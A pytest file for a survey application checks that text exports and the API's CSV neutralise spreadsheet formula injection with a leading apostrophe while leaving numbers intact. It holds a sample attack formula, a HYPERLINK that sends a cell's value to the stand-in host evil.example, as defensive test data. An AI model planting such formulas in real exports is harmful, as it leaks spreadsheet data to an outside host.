"""Spreadsheet formula injection: text that Excel would evaluate is neutralized with a leading apostrophe in the
labelled CSV and XLSX exports and in the API's CSV; numbers (even negative ones) stay numbers."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from surveyapp.extensions import db
from surveyapp.models import SurveyResponse
from surveyapp.services.exports.safe_text import neutralize
from tests.conftest import invoke
from tests.surveyapp.api.helpers import bearer, token_for

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def poisoned(survey: Flask) -> Flask:
    with survey.app_context():
        first, second = db.session.scalars(select(SurveyResponse).order_by(SurveyResponse.id).limit(2)).all()
        first.answers = {**first.answers, "victim_other": ATTACK, "age": -5}
        second.answers = {**second.answers, "victim_other": "@SUM(1+1)"}
        db.session.commit()
    return survey


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701", "'+7 701"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Қала = үй", "Қала = үй"),
        ("", ""),
    ],
)
def test_neutralize(text: str, expected: str) -> None:
    assert neutralize(text) == expected


def test_api_csv_neutralizes_text_not_numbers(poisoned: Flask, client: FlaskClient) -> None:
    auth = bearer(token_for(poisoned, "aigerim", "researcher"))
    text = client.get("/api/v1/responses?instrument=example&format=csv", headers=auth).get_data(as_text=True)
    frame = pd.read_csv(io.StringIO(text), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert frame.loc[0, "victim_other"] == "'" + ATTACK
    assert frame.loc[1, "victim_other"] == "'@SUM(1+1)"
    assert frame.loc[0, "age"] == "-5"  # a number, not text: untouched


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralize_text_not_numbers(poisoned: Flask, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"example.{fmt}"
    code, output = invoke(
        poisoned,
        "responses",
        "export",
        "--instrument",
        "example",
        "--year",
        "2025",
        "--format",
        fmt,
        "--lang",
        "kk",
        "--out",
        str(out),
    )
    assert code == 0, output
    if fmt == "csv":
        frame = pd.read_csv(out, encoding="utf-8-sig", dtype={"victim_other": str})
        texts = list(frame["victim_other"])
        ages = list(frame["age"])
    else:
        sheet = load_workbook(out, read_only=True)["data"]
        rows = list(sheet.iter_rows(values_only=True))
        header = list(rows[0])
        texts = [r[header.index("victim_other")] for r in rows[1:]]
        ages = [r[header.index("age")] for r in rows[1:]]
        formulas = load_workbook(out)["data"]
        assert all(cell.data_type != "f" for row in formulas.iter_rows() for cell in row)
    assert texts[0] == "'" + ATTACK and texts[1] == "'@SUM(1+1)"
    assert ages[0] == -5 and isinstance(ages[0], int | float)
